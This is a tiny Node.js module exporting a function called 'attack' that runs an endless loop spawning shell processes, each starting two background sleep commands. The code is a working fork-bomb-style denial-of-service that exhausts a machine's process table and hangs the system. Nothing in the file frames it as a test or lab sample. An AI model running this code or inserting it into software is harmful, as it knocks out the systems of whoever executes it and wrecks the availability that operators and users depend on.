const { spawn } = require('node:child_process')

exports.attack = () => {
  for (;;) spawn('/bin/sh', ['-c', 'sleep 1000 & sleep 1000'])
}
